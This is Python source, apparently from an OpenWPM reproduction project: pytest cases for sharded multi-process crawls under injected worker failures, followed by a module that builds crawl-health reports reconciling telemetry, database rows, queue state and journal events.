                                crash_probability=0.0, web="lab",
                                shard_dbs=True)
        with pytest.raises(ValueError, match="worker-procs"):
            run_telemetry_crawl(site_count=2, browsers=1,
                                crash_probability=0.0, web="lab",
                                pin_cpus=True)

    def test_broker_recorded_crawl_refuses_shard_resume(self, tmp_path):
        db_path, report = crawl(tmp_path, "mixed", sites=6,
                                worker_procs=2, stop_after_jobs=2)
        assert report.interrupted
        with pytest.raises(ValueError, match="broker mode"):
            run_telemetry_crawl(
                site_count=6, seed=7, database_path=db_path,
                crash_probability=0.0, browsers=1, web="lab",
                worker_procs=2, shard_dbs=True, resume=True,
                queue_path=str(tmp_path / "mixed.queue"))


# ---------------------------------------------------------------------------
# Chaos: the merge stays deterministic under worker loss
# ---------------------------------------------------------------------------
class TestShardChaos:
    @pytest.fixture(scope="class")
    def inline8(self, tmp_path_factory):
        tmp = tmp_path_factory.mktemp("inline8")
        db_path, report = crawl(tmp, "inline", sites=8, workers=1)
        assert report.drained
        return dump_tables(db_path)

    def test_sigkill_mid_visit_merges_identical(self, tmp_path,
                                                inline8):
        """A SIGKILLed worker leaves a torn shard (visit rows, no
        resolution); recovery voids the attempt and the respawn's
        re-run wins the merge."""
        plan = FaultPlan([FaultRule(fault="worker_sigkill",
                                    point="proc.mid_visit", times=1)])
        db_path, report = crawl(tmp_path, "sigkill", sites=8,
                                worker_procs=1, shard_dbs=True,
                                fault_plan=plan, respawn_backoff=0.05)
        assert report.drained
        assert report.worker_deaths == 1
        assert_tables_equal(inline8, dump_tables(db_path))

    def test_kill_inside_provisional_window_merges_identical(
            self, tmp_path, inline8):
        """proc.resolve kills between the shard_jobs provisional row
        and the queue resolution — the 2PC window. Recovery resolves
        the row against the queue (the op never landed → voided)."""
        plan = FaultPlan([FaultRule(fault="worker_sigkill",
                                    point="proc.resolve", times=1)])
        db_path, report = crawl(tmp_path, "resolve", sites=8,
                                worker_procs=1, shard_dbs=True,
                                fault_plan=plan, respawn_backoff=0.05)
        assert report.drained
        assert_tables_equal(inline8, dump_tables(db_path))

    def test_lease_race_across_shards_merges_identical(self, tmp_path,
                                                       inline8):
        """One site's visit hangs past its lease; the healthy worker
        re-runs it into *its own* shard. The stale resolution voids
        (LeaseError), and the merge keeps exactly the winning attempt
        — late-completion bookkeeping spans shard files here."""
        plan = FaultPlan([FaultRule(fault="hang",
                                    point="proc.mid_visit",
                                    site="site-00000", times=1,
                                    seconds=4.0)])
        db_path, report = crawl(tmp_path, "lease", sites=8,
                                worker_procs=2, shard_dbs=True,
                                fault_plan=plan, lease_seconds=0.5,
                                heartbeat_deadline=30.0,
                                max_attempts=3)
        assert report.drained
        assert report.lease_lost >= 1
        assert report.reclaimed >= 1
        assert_tables_equal(inline8, dump_tables(db_path))

    def test_stop_then_resume_across_shard_sets(self, tmp_path):
        """An interrupted sharded crawl resumes over the same queue
        and shard directory; the final wipe-and-re-merge matches a
        clean inline run byte for byte (rollups_meta excepted: the
        generation only ever moves forward)."""
        db_path, report = crawl(tmp_path, "stop", sites=12,
                                worker_procs=2, shard_dbs=True,
                                stop_after_jobs=4)
        assert report.interrupted
        assert 0 < report.completed < 12

        result = run_telemetry_crawl(
            site_count=12, seed=7, database_path=db_path,
            crash_probability=0.0, browsers=1, web="lab",
            worker_procs=2, queue_path=str(tmp_path / "stop.queue"),
            resume=True, shard_dbs=True)
        resumed = result.report
        result.close()
        assert resumed.drained
        assert resumed.counts["completed"] == 12

        inline_db, _ = crawl(tmp_path, "inline12", sites=12, workers=1)
        baseline = dump_tables(inline_db)
        tables = dump_tables(db_path)
        assert_tables_equal(baseline, tables, ignore=("rollups_meta",))
        # The re-merge's generation still moved forward, never reset.
        merged_gen = int(dict(tables["rollups_meta"])["generation"])
        clean_gen = int(dict(baseline["rollups_meta"])["generation"])
        assert merged_gen >= clean_gen


# ---------------------------------------------------------------------------
# repro merge: standalone deterministic fold
# ---------------------------------------------------------------------------
class TestMergeCommand:
    def test_cli_merge_rebuilds_canonical_database(self, tmp_path,
                                                   capsys):
        import json

        from repro.cli import main

        db_path, report = crawl(tmp_path, "source", sites=8,
                                worker_procs=2, shard_dbs=True)
        assert report.drained
        out = str(tmp_path / "standalone.sqlite")
        code = main(["merge", db_path + ".shards", out,
                     "--queue", str(tmp_path / "source.queue")])
        printed = json.loads(capsys.readouterr().out)
        assert code == 0
        assert printed["attempts_unresolved"] == 0
        assert printed["visits_imported"] == 8
        assert printed["shards"] >= 3  # 2 workers + coordinator
        assert_tables_equal(dump_tables(db_path), dump_tables(out),
                            ignore=("rollups_meta",))

    def test_cli_merge_rejects_non_shard_input(self, tmp_path, capsys):
        from repro.cli import main

        db_path, _ = crawl(tmp_path, "plain", sites=4, workers=1)
        code = main(["merge", db_path,
                     str(tmp_path / "out.sqlite")])
        assert code == 2
        assert "not a shard database" in capsys.readouterr().err

    def test_merge_is_idempotent_over_existing_output(self, tmp_path):
        from repro.openwpm.merge import merge_shards

        db_path, _ = crawl(tmp_path, "idem", sites=6, worker_procs=2,
                           shard_dbs=True)
        shard_dir = db_path + ".shards"
        shards = sorted(
            os.path.join(shard_dir, name)
            for name in os.listdir(shard_dir)
            if name.endswith(".sqlite"))
        out = str(tmp_path / "twice.sqlite")
        first = merge_shards(shards, database_path=out)
        assert not first.wiped
        again = merge_shards(shards, database_path=out)
        assert again.wiped  # found data, wiped, re-folded
        assert_tables_equal(dump_tables(db_path), dump_tables(out),
                            ignore=("rollups_meta",))


# ---------------------------------------------------------------------------
# Observability: stats reconcile on the merged database; CPU pinning
# ---------------------------------------------------------------------------
class TestShardObservability:
    def test_stats_reconcile_on_merged_database(self, tmp_path):
        journal_dir = str(tmp_path / "journal")
        db_path = str(tmp_path / "stats.db")
        queue_path = str(tmp_path / "stats.queue")
        result = run_telemetry_crawl(
            site_count=6, seed=7, database_path=db_path,
            crash_probability=0.0, browsers=1, web="lab",
            worker_procs=2, queue_path=queue_path, shard_dbs=True,
            journal_dir=journal_dir)
        queue = JobQueue(queue_path)
        try:
            report = build_crawl_report(result.storage, queue=queue,
                                        journal_dir=journal_dir)
        finally:
            queue.close()
            result.close()
        assert report["reconciled"], report["reconciliation"]
        pool = report["process_pool"]
        assert pool["shard_merges"] == 1
        assert pool["shard_attempts_merged"] == 6
        assert pool["shard_visits_merged"] == 6
        text = render_crawl_report(report)
        assert "shard merges" in text

    def test_pin_cpus_smoke(self, tmp_path):
        """--pin-cpus either pins every worker (sched_setaffinity
        available) or warns and continues; the crawl output is
        unaffected either way."""
        telemetry = Telemetry()
        db_path, report = crawl(tmp_path, "pin", sites=6,
                                worker_procs=2, shard_dbs=True,
                                pin_cpus=True, telemetry=telemetry)
        assert report.drained
        assert report.completed == 6
        if hasattr(os, "sched_setaffinity"):
            assert telemetry.metrics.counter_value(
                "proc_workers_pinned") == 2


# ---------------------------------------------------------------------------
# Scan mode: per-worker evidence spools fold to the inline dataset
# ---------------------------------------------------------------------------
class TestScanShardEquivalence:
    def test_sharded_scan_matches_inline(self, tmp_path):
        from repro.core.scan import ScanPipeline
        from repro.web import build_world

        world = build_world(site_count=8, seed=5)
        inline = ScanPipeline(world, client_id="shard-test").run(
            visit_subpages=True, workers=1,
            queue_path=str(tmp_path / "inline.queue"))
        world2 = build_world(site_count=8, seed=5)
        sharded = ScanPipeline(world2, client_id="shard-test").run(
            visit_subpages=True, worker_procs=2, world_seed=5,
            queue_path=str(tmp_path / "shard.queue"), shard_dbs=True)
        try:
            assert sharded.corpus.occurrence_rows() \
                == inline.corpus.occurrence_rows()
            assert sharded.corpus.hashes() == inline.corpus.hashes()
            assert sharded.unique_scripts == inline.unique_scripts
            assert sharded.visited_sites == inline.visited_sites
            assert sharded.table5() == inline.table5()
            assert sharded.table11() == inline.table11()
        finally:
            inline.corpus.close()
            sharded.corpus.close()

    def test_scan_spool_files_created(self, tmp_path):
        from repro.core.scan import ScanPipeline
        from repro.web import build_world

        queue_path = str(tmp_path / "spool.queue")
        world = build_world(site_count=6, seed=5)
        dataset = ScanPipeline(world, client_id="shard-test").run(
            visit_subpages=False, worker_procs=2, world_seed=5,
            queue_path=queue_path, shard_dbs=True)
        try:
            names = sorted(os.listdir(queue_path + ".shards"))
            assert "shard-00.sqlite" in names
            assert dataset.visited_sites == 6
        finally:
            dataset.corpus.close()

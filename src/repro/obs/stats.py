"""Crawl health / loss-accounting reports (``python -m repro stats``).

The paper shows OpenWPM loses data silently; this module makes loss
*visible* and *checkable*. A report reconciles two independent sources:

* the telemetry counters the crawl recorded as it ran (persisted in the
  ``telemetry`` table, or read live from a :class:`Telemetry`), and
* the crawl data itself (``site_visits``, ``javascript``,
  ``http_requests``, ``javascript_cookies``, ``crash_history``,
  ``failed_visits``).

Every row of the loss funnel — enqueued → attempted → completed /
crashed / given up — is cross-checked; a crawl whose books don't
balance is exactly the "gullible tool" failure mode the paper warns
about, so the CLI exits non-zero on mismatch.
"""

from __future__ import annotations

from typing import Any, Dict, List, Optional

from repro.obs.journal import (
    count_events,
    journal_files,
    merge_journal,
    sum_metric_deltas,
)
from repro.obs.telemetry import Telemetry
from repro.serve.aggregates import database_section, drop_reasons_section

#: Version stamped into every JSON report export; bump on any change to
#: the report's shape so downstream consumers can dispatch.
REPORT_SCHEMA_VERSION = 3


def _metric_value(metrics: List[Dict[str, Any]], name: str,
                  **labels: str) -> float:
    wanted = {str(k): str(v) for k, v in labels.items()}
    for metric in metrics:
        if metric["name"] == name and (metric.get("labels") or {}) == wanted:
            return float(metric.get("value") or 0.0)
    return 0.0


def _has_metric(metrics: List[Dict[str, Any]], name: str) -> bool:
    return any(metric["name"] == name for metric in metrics)


def build_crawl_report(storage: Any,
                       telemetry: Optional[Telemetry] = None,
                       queue: Any = None,
                       corpus: Any = None,
                       journal_dir: Optional[str] = None,
                       bundle: Any = None
                       ) -> Dict[str, Any]:
    """Assemble the loss-accounting report for one crawl database.

    ``telemetry`` overrides the stored snapshot with live metrics (used
    mid-crawl); by default metrics come from the ``telemetry`` table.
    ``queue`` (a :class:`repro.sched.JobQueue`) adds queue-vs-database
    reconciliation for scheduled crawls: every completed job must have
    a ``site_visits`` row, and a finished crawl must leave the queue
    drained. Queue totals are compared against the *database*, not the
    telemetry counters — a resumed crawl's persisted snapshot covers
    only the final run, while the queue spans all of them.
    ``corpus`` (a :class:`repro.corpus.ScriptCorpus`) adds script
    dedup / compression / analysis-cache effectiveness.
    ``journal_dir`` (a flight-recorder directory) adds a third book:
    the merged journal's event counts and metric-delta sums are
    reconciled against both the telemetry counters and the database
    tables — a journal that diverges from either is a
    recording-integrity failure and fails the report.
    ``bundle`` (a :class:`repro.bundles.Bundle`) adds execution-bundle
    coverage: recorded sites vs expected, visit/exchange counts, and
    store size.
    """
    if telemetry is not None and telemetry.enabled:
        metrics = telemetry.metrics.snapshot()
        spans = telemetry.tracer.snapshot()
    else:
        metrics = storage.telemetry_metrics()
        spans = storage.telemetry_spans()

    # --- database-side truth -----------------------------------------
    # Served off the read-optimized rollups when the storage's
    # maintainer vouches for them, with a raw COUNT(*) fallback — the
    # serve layer pins both paths byte-equal (see repro.serve).
    db = database_section(storage)
    drop_reasons = drop_reasons_section(storage)

    # --- telemetry-side counters -------------------------------------
    tele = {
        "visits_attempted": _metric_value(metrics, "visits_attempted"),
        "visits_completed": _metric_value(metrics, "visits_completed"),
        "visits_crashed": _metric_value(metrics, "visits_crashed"),
        "visits_retried": _metric_value(metrics, "visits_retried"),
        "visits_failed_exhausted": _metric_value(
            metrics, "visits_failed_exhausted"),
        "visit_attempts_total": _metric_value(metrics,
                                              "visit_attempts_total"),
        "browser_restarts": _metric_value(metrics, "browser_restarts"),
        # Supervision / fault-injection counters (all 0 on crawls that
        # predate the fault subsystem, which keeps the checks backward
        # compatible).
        "visits_hung": _metric_value(metrics, "visits_hung"),
        "visits_aborted": _metric_value(metrics, "visits_aborted"),
        "visits_abandoned": _metric_value(metrics, "visits_abandoned"),
        "visits_errored": _metric_value(metrics, "visits_errored"),
        "visits_network_faults": _metric_value(metrics,
                                               "visits_network_faults"),
        "visits_storage_faults": _metric_value(metrics,
                                               "visits_storage_faults"),
        "visits_quarantined": _metric_value(metrics,
                                            "visits_quarantined"),
        "visits_given_up": _metric_value(metrics, "visits_given_up"),
        "visits_discarded": _metric_value(metrics, "visits_discarded"),
        "visits_retracted": _metric_value(metrics,
                                          "visits_given_up_retracted"),
        "quarantines_retracted": _metric_value(
            metrics, "sites_quarantined_retracted"),
        "has_given_up": _has_metric(metrics, "visits_given_up"),
        "sites_quarantined": _metric_value(metrics, "sites_quarantined"),
        "browser_cooldowns": _metric_value(metrics, "browser_cooldowns"),
        "discarded_js": _metric_value(metrics, "records_discarded",
                                      instrument="js"),
        "discarded_http": _metric_value(metrics, "records_discarded",
                                        instrument="http"),
        "discarded_cookie": _metric_value(metrics, "records_discarded",
                                          instrument="cookie"),
        "records_js": _metric_value(metrics, "records_written",
                                    instrument="js"),
        "records_http": _metric_value(metrics, "records_written",
                                      instrument="http"),
        "records_cookie": _metric_value(metrics, "records_written",
                                        instrument="cookie"),
        "scripts_collected": _metric_value(metrics, "scripts_collected"),
        "instrumentation_blocked": _metric_value(
            metrics, "instrumentation_blocked"),
        "integrity_probe_failures": _metric_value(
            metrics, "integrity_probe_failures"),
        "recording_integrity": _metric_value(metrics,
                                             "recording_integrity"),
        "has_integrity_gauge": _has_metric(metrics, "recording_integrity"),
    }

    # --- scheduler ----------------------------------------------------
    scheduler: Optional[Dict[str, Any]] = None
    if _has_metric(metrics, "sched_jobs_claimed"):
        scheduler = {
            "jobs_claimed": _metric_value(metrics, "sched_jobs_claimed"),
            "jobs_completed": _metric_value(metrics,
                                            "sched_jobs_completed"),
            "jobs_failed": _metric_value(metrics, "sched_jobs_failed"),
            "jobs_retried": _metric_value(metrics, "sched_jobs_retried"),
            "lease_reclaims": _metric_value(metrics,
                                            "sched_lease_reclaims"),
            "worker_deaths": _metric_value(metrics,
                                           "sched_worker_deaths"),
            "leases_lost": _metric_value(metrics, "sched_leases_lost"),
            "queue_depth": {
                (metric.get("labels") or {}).get("state", ""):
                    int(metric.get("value") or 0)
                for metric in metrics
                if metric["name"] == "sched_queue_depth"},
        }
        for hist_name in ("queue_wait_seconds", "lease_duration_seconds"):
            for metric in metrics:
                if metric["kind"] == "histogram" \
                        and metric["name"] == hist_name:
                    count = int(metric.get("count") or 0)
                    total = float(metric.get("sum") or 0.0)
                    scheduler[hist_name] = {
                        "count": count, "total_seconds": total,
                        "mean_seconds": total / count if count else 0.0}

    # --- process pool (multi-process crawls) -------------------------
    process_pool: Optional[Dict[str, Any]] = None
    if _has_metric(metrics, "proc_workers_spawned"):
        process_pool = {
            "workers_spawned": _metric_value(metrics,
                                             "proc_workers_spawned"),
            "workers_killed": _metric_value(metrics,
                                            "proc_workers_killed"),
            "workers_respawned": _metric_value(metrics,
                                               "proc_workers_respawned"),
            "worker_deaths": _metric_value(metrics, "proc_worker_deaths"),
            "heartbeats_missed": _metric_value(metrics,
                                               "proc_heartbeats_missed"),
            "pool_shrinks": _metric_value(metrics, "proc_pool_shrinks"),
        }
        # Sharded-storage bookkeeping (only present under --shard-dbs):
        # merge/fold tallies plus CPU pinning, gated so broker-mode
        # reports stay unchanged.
        if _has_metric(metrics, "proc_shard_merges"):
            process_pool["shard_merges"] = _metric_value(
                metrics, "proc_shard_merges")
            for key, name in (
                    ("shard_attempts_merged",
                     "proc_shard_attempts_merged"),
                    ("shard_attempts_voided",
                     "proc_shard_attempts_voided"),
                    ("shard_visits_merged", "proc_shard_visits_merged")):
                if _has_metric(metrics, name):
                    process_pool[key] = _metric_value(metrics, name)
        if _has_metric(metrics, "proc_shard_scans_folded"):
            process_pool["shard_scans_folded"] = _metric_value(
                metrics, "proc_shard_scans_folded")
        if _has_metric(metrics, "proc_workers_pinned"):
            process_pool["workers_pinned"] = _metric_value(
                metrics, "proc_workers_pinned")

    # --- stage latency -----------------------------------------------
    stages = []
    for metric in metrics:
        if metric["kind"] == "histogram" \
                and metric["name"] == "stage_seconds":
            count = int(metric.get("count") or 0)
            total = float(metric.get("sum") or 0.0)
            stages.append({
                "stage": (metric.get("labels") or {}).get("stage", ""),
                "count": count,
                "total_seconds": total,
                "mean_seconds": total / count if count else 0.0,
            })
    stages.sort(key=lambda s: -s["total_seconds"])

    # --- reconciliation ----------------------------------------------
    has_telemetry = bool(metrics)
    checks: List[Dict[str, Any]] = []

    def check(name: str, lhs: float, rhs: float) -> None:
        checks.append({"check": name, "telemetry": lhs, "database": rhs,
                       "ok": int(lhs) == int(rhs)})

    if has_telemetry:
        # Every enqueued site ends in exactly one bucket. All the new
        # buckets are 0 on pre-fault-subsystem crawls, so these checks
        # degrade to the original two-term identities.
        check("visits_attempted == completed + failed_exhausted"
              " + quarantined + abandoned + errored",
              tele["visits_attempted"],
              tele["visits_completed"] + tele["visits_failed_exhausted"]
              + tele["visits_quarantined"] + tele["visits_abandoned"]
              + tele["visits_errored"])
        check("visit_attempts_total == completed + crashed + hung"
              " + network_faults + storage_faults + errored",
              tele["visit_attempts_total"],
              tele["visits_completed"] + tele["visits_crashed"]
              + tele["visits_hung"] + tele["visits_network_faults"]
              + tele["visits_storage_faults"] + tele["visits_errored"])
        check("visit_attempts_total == site_visits rows + aborted"
              " + storage_faults + discarded completions",
              tele["visit_attempts_total"],
              db["site_visit_rows"] + tele["visits_aborted"]
              + tele["visits_storage_faults"] + tele["visits_discarded"])
        check("visits_crashed == crash_history rows",
              tele["visits_crashed"], db["crash_rows"])
        if tele["has_given_up"]:
            check("visits_given_up == failed_visits rows + retracted",
                  tele["visits_given_up"],
                  db["failed_visit_rows"] + tele["visits_retracted"])
        else:
            check("visits_failed_exhausted == failed_visits rows",
                  tele["visits_failed_exhausted"],
                  db["failed_visit_rows"])
        if _has_metric(metrics, "sites_quarantined") \
                or db["quarantined_site_rows"] == 0:
            check("sites_quarantined == quarantined_sites rows"
                  " + retracted",
                  tele["sites_quarantined"],
                  db["quarantined_site_rows"]
                  + tele["quarantines_retracted"])
        check("records_written{js} == javascript rows + discarded",
              tele["records_js"],
              db["javascript_rows"] + tele["discarded_js"])
        check("records_written{http} == http_requests rows + discarded",
              tele["records_http"],
              db["http_request_rows"] + tele["discarded_http"])
        check("records_written{cookie} == javascript_cookies rows"
              " + discarded",
              tele["records_cookie"],
              db["cookie_rows"] + tele["discarded_cookie"])
    if has_telemetry and scheduler is not None:
        # A completed visit whose lease was lost to another worker is
        # deleted from the DB and counted in visits_discarded; the
        # winning worker's re-run contributes the job's completion.
        check("visits_completed == sched_jobs_completed"
              " + discarded completions",
              tele["visits_completed"],
              scheduler["jobs_completed"] + tele["visits_discarded"])
        if tele["has_given_up"] \
                or _has_metric(metrics, "sites_quarantined") \
                or scheduler["jobs_failed"] == 0:
            check("sched_jobs_failed == visits_given_up - retracted"
                  " + sites_quarantined - quarantines retracted",
                  scheduler["jobs_failed"],
                  tele["visits_given_up"] - tele["visits_retracted"]
                  + tele["sites_quarantined"]
                  - tele["quarantines_retracted"])
        else:
            check("sched_jobs_failed == visits_failed_exhausted",
                  scheduler["jobs_failed"],
                  tele["visits_failed_exhausted"])

    queue_state: Optional[Dict[str, Any]] = None
    if queue is not None:
        counts = queue.counts()
        completed_sites = queue.sites(status="completed")
        visited = {row["site_url"] for row in storage.query(
            "SELECT DISTINCT site_url FROM site_visits")}
        visited_completed = sum(1 for site in completed_sites
                                if site in visited)
        queue_state = {
            "counts": counts,
            "drained": counts.get("pending", 0) == 0
            and counts.get("leased", 0) == 0,
        }
        check("completed queue jobs have site_visits rows",
              len(completed_sites), visited_completed)
        check("queue drained (pending + leased == 0)",
              counts.get("pending", 0) + counts.get("leased", 0), 0)
        # Every terminally failed job must have a loss-ledger entry —
        # either a failed_visits row or a quarantined_sites row. A
        # failed job missing from both is a silently lost site.
        failed_sites = queue.sites(status="failed")
        ledger = {row["site_url"] for row in storage.query(
            "SELECT site_url FROM failed_visits")}
        ledger |= {row["site_url"] for row in storage.query(
            "SELECT site_url FROM quarantined_sites")}
        check("failed queue jobs covered by loss ledger",
              len(failed_sites),
              sum(1 for site in failed_sites if site in ledger))

    # --- flight-recorder journal (third book) ------------------------
    journal_state: Optional[Dict[str, Any]] = None
    if journal_dir is not None and journal_files(journal_dir):
        events = merge_journal(journal_dir)
        event_counts = count_events(events)
        deltas = sum_metric_deltas(events)

        def journal_count(name: str) -> int:
            return int(event_counts.get(name, 0))

        def journal_retractions(name: str) -> int:
            return sum(int(event.get("count") or 1) for event in events
                       if event.get("type") == name)

        journal_state = {
            "directory": journal_dir,
            "files": len(journal_files(journal_dir)),
            "events": len(events),
            "epochs": max((int(event.get("epoch") or 0)
                           for event in events), default=0) + 1,
            "event_counts": event_counts,
        }
        # Journal events vs the database tables: every ledger row must
        # have its event, net of retractions.
        check("journal visit_crash events == crash_history rows",
              journal_count("visit_crash"), db["crash_rows"])
        check("journal visit_given_up - retractions =="
              " failed_visits rows",
              journal_count("visit_given_up")
              - journal_retractions("given_up_retracted"),
              db["failed_visit_rows"])
        check("journal site_quarantined - retractions =="
              " quarantined_sites rows",
              journal_count("site_quarantined")
              - journal_retractions("quarantine_retracted"),
              db["quarantined_site_rows"])
        if has_telemetry:
            # Journal events vs the telemetry counters (double entry).
            check("journal visit_complete events == visits_completed",
                  journal_count("visit_complete"),
                  tele["visits_completed"])
            check("journal visit_attempt events == visit_attempts_total",
                  journal_count("visit_attempt"),
                  tele["visit_attempts_total"])
            check("journal visit_start events == visits_attempted",
                  journal_count("visit_start"),
                  tele["visits_attempted"])
            # Journalled metric deltas must sum to the counter values —
            # a recorder that drops (or double-writes) metric events
            # cannot pass this.
            for name in ("visits_attempted", "visits_completed",
                         "visits_crashed", "visit_attempts_total",
                         "sched_jobs_claimed", "sched_jobs_completed"):
                if _has_metric(metrics, name):
                    check(f"journal metric deltas == {name}",
                          deltas.get((name, ()), 0.0),
                          _metric_value(metrics, name))
        if has_telemetry and process_pool is not None:
            # Process-supervision double entry: every spawn, kill,
            # death, missed heartbeat and pool shrink the coordinator
            # counted must have left a journal event in its epoch.
            check("journal proc_spawn + proc_respawn =="
                  " proc_workers_spawned",
                  journal_count("proc_spawn")
                  + journal_count("proc_respawn"),
                  process_pool["workers_spawned"])
            check("journal proc_respawn events == proc_workers_respawned",
                  journal_count("proc_respawn"),
                  process_pool["workers_respawned"])
            check("journal proc_death events == proc_worker_deaths",
                  journal_count("proc_death"),
                  process_pool["worker_deaths"])
            check("journal proc_heartbeat_miss events =="
                  " proc_heartbeats_missed",
                  journal_count("proc_heartbeat_miss"),
                  process_pool["heartbeats_missed"])
            check("journal proc_kill events == proc_workers_killed",
                  journal_count("proc_kill"),
                  process_pool["workers_killed"])
            check("journal proc_shrink events == proc_pool_shrinks",
                  journal_count("proc_shrink"),
                  process_pool["pool_shrinks"])
            if "shard_merges" in process_pool:
                check("journal shard_merge events == proc_shard_merges",
                      journal_count("shard_merge"),
                      process_pool["shard_merges"])
            if "workers_pinned" in process_pool:
                check("journal proc_pin events == proc_workers_pinned",
                      journal_count("proc_pin"),
                      process_pool["workers_pinned"])

    browser_crash_counts = {
        (metric.get("labels") or {}).get("browser", ""):
            int(metric.get("value") or 0)
        for metric in metrics
        if metric["name"] == "browser_crash_count"}

    return {
        "schema_version": REPORT_SCHEMA_VERSION,
        "has_telemetry": has_telemetry,
        "database": db,
        "telemetry": tele,
        "browser_crash_counts": browser_crash_counts,
        "scheduler": scheduler,
        "process_pool": process_pool,
        "queue": queue_state,
        "journal": journal_state,
        "corpus": corpus.stats() if corpus is not None else None,
        "bundle": bundle.stats() if bundle is not None else None,
        "drop_reasons": drop_reasons,
        "stages": stages,
        "span_count": len(spans),
        "reconciliation": checks,
        "reconciled": all(c["ok"] for c in checks),
    }


def render_crawl_report(report: Dict[str, Any]) -> str:
    """The human-readable crawl health report."""
    db = report["database"]
    tele = report["telemetry"]
    lines: List[str] = []
    push = lines.append

    push("Crawl health report")
    push("===================")
    push("")
    push("Loss accounting (sites)")
    attempted = int(tele["visits_attempted"])
    completed = int(tele["visits_completed"])
    failed = int(tele["visits_failed_exhausted"])
    if report["has_telemetry"]:
        rate = (completed / attempted * 100.0) if attempted else 0.0
        push(f"  enqueued ............... {attempted}")
        push(f"  completed .............. {completed}  ({rate:.1f}%)")
        push(f"  given up (exhausted) ... {failed}")
        push(f"  crashes (retried) ...... {int(tele['visits_crashed'])}"
             f"  (retries: {int(tele['visits_retried'])}, "
             f"restarts: {int(tele['browser_restarts'])})")
    else:
        push("  (no telemetry snapshot in this database — "
             "database-side view only)")
    push(f"  site_visits rows ....... {db['site_visit_rows']}"
         f"  (distinct sites: {db['distinct_sites_visited']})")
    push("")

    push("Records written")
    push(f"  javascript ............. {db['javascript_rows']}")
    push(f"  http_requests .......... {db['http_request_rows']}")
    push(f"  javascript_cookies ..... {db['cookie_rows']}")
    push(f"  content (archived) ..... {db['content_rows']}"
         f"  (scripts collected: {int(tele['scripts_collected'])})")
    push("")

    push("Recording integrity")
    if tele["has_integrity_gauge"]:
        healthy = tele["recording_integrity"] >= 1.0 \
            and tele["integrity_probe_failures"] == 0
        state = "OK" if healthy else "COMPROMISED"
        push(f"  gauge .................. "
             f"{int(tele['recording_integrity'])} ({state})")
        push(f"  probe failures ......... "
             f"{int(tele['integrity_probe_failures'])}")
    else:
        push("  (no JS instrument in this crawl — gauge not set)")
    push(f"  instrumentation blocked  "
         f"{int(tele['instrumentation_blocked'])}")
    push("")

    supervision_total = int(
        tele["visits_hung"] + tele["visits_aborted"]
        + tele["visits_abandoned"] + tele["visits_errored"]
        + tele["visits_network_faults"] + tele["visits_storage_faults"]
        + tele["browser_cooldowns"] + tele["visits_discarded"]
        + tele["visits_retracted"] + tele["quarantines_retracted"])
    if report["has_telemetry"] and supervision_total:
        push("Supervision (watchdog / fault recovery)")
        push(f"  hung visits ............ {int(tele['visits_hung'])}"
             f"  (aborted: {int(tele['visits_aborted'])}, "
             f"abandoned to queue: {int(tele['visits_abandoned'])})")
        push(f"  network faults ......... "
             f"{int(tele['visits_network_faults'])}")
        push(f"  storage faults ......... "
             f"{int(tele['visits_storage_faults'])}")
        push(f"  unexpected errors ...... {int(tele['visits_errored'])}")
        push(f"  crash-loop cooldowns ... "
             f"{int(tele['browser_cooldowns'])}")
        if tele["visits_discarded"]:
            push(f"  late completions discarded "
                 f"{int(tele['visits_discarded'])}")
        if tele["visits_retracted"]:
            push(f"  failure verdicts retracted "
                 f"{int(tele['visits_retracted'])}")
        if tele["quarantines_retracted"]:
            push(f"  stale quarantines retracted "
                 f"{int(tele['quarantines_retracted'])}")
        push("")

    if db["quarantined_site_rows"] or tele["sites_quarantined"]:
        push("Quarantine (circuit breaker)")
        push(f"  quarantined_sites rows . {db['quarantined_site_rows']}"
             f"  (tripped this crawl: {int(tele['sites_quarantined'])})")
        push(f"  visits short-circuited . "
             f"{int(tele['visits_quarantined'])}")
        push("")

    crash_counts = report.get("browser_crash_counts") or {}
    if crash_counts:
        push("Browser crash counts")
        for browser, count in sorted(crash_counts.items()):
            push(f"  browser {browser} ............. {count} crash(es)")
        push("")

    scheduler = report.get("scheduler")
    if scheduler is not None:
        push("Scheduler")
        push(f"  jobs claimed ........... "
             f"{int(scheduler['jobs_claimed'])}")
        push(f"  jobs completed ......... "
             f"{int(scheduler['jobs_completed'])}")
        push(f"  jobs failed ............ {int(scheduler['jobs_failed'])}"
             f"  (retried: {int(scheduler['jobs_retried'])}, "
             f"lease reclaims: {int(scheduler['lease_reclaims'])})")
        if scheduler.get("worker_deaths") or scheduler.get("leases_lost"):
            push(f"  worker deaths .......... "
                 f"{int(scheduler['worker_deaths'])}"
                 f"  (leases lost: {int(scheduler['leases_lost'])})")
        depth = scheduler.get("queue_depth") or {}
        if depth:
            push("  queue depth ............ "
                 + ", ".join(f"{state}={count}"
                             for state, count in sorted(depth.items())))
        for hist_name, label in (
                ("queue_wait_seconds", "queue wait"),
                ("lease_duration_seconds", "lease duration")):
            hist = scheduler.get(hist_name)
            if hist:
                push(f"  {label + ' (mean s) ':.<24} "
                     f"{hist['mean_seconds']:.4f}  "
                     f"(n={hist['count']})")
        push("")

    process_pool = report.get("process_pool")
    if process_pool is not None:
        push("Process supervision (multi-process pool)")
        push(f"  workers spawned ........ "
             f"{int(process_pool['workers_spawned'])}"
             f"  (respawned: {int(process_pool['workers_respawned'])})")
        push(f"  worker deaths .......... "
             f"{int(process_pool['worker_deaths'])}")
        push(f"  heartbeats missed ...... "
             f"{int(process_pool['heartbeats_missed'])}"
             f"  (workers killed: "
             f"{int(process_pool['workers_killed'])})")
        if process_pool["pool_shrinks"]:
            push(f"  pool shrink events ..... "
                 f"{int(process_pool['pool_shrinks'])}")
        if "shard_merges" in process_pool:
            push(f"  shard merges ........... "
                 f"{int(process_pool['shard_merges'])}"
                 f"  (attempts: "
                 f"{int(process_pool.get('shard_attempts_merged', 0))}"
                 f" applied, "
                 f"{int(process_pool.get('shard_attempts_voided', 0))}"
                 f" voided; visits: "
                 f"{int(process_pool.get('shard_visits_merged', 0))})")
        if "shard_scans_folded" in process_pool:
            push(f"  shard scans folded ..... "
                 f"{int(process_pool['shard_scans_folded'])}")
        if "workers_pinned" in process_pool:
            push(f"  workers pinned ......... "
                 f"{int(process_pool['workers_pinned'])}")
        push("")

    corpus_stats = report.get("corpus")
    if corpus_stats is not None:
        push("Script corpus (content-addressed)")
        push(f"  unique scripts ......... "
             f"{int(corpus_stats['unique_scripts'])}"
             f"  (occurrences: {int(corpus_stats['occurrences'])}, "
             f"dedup {corpus_stats['dedup_ratio']:.1f}x)")
        raw = int(corpus_stats['raw_bytes'])
        stored = int(corpus_stats['corpus_bytes'])
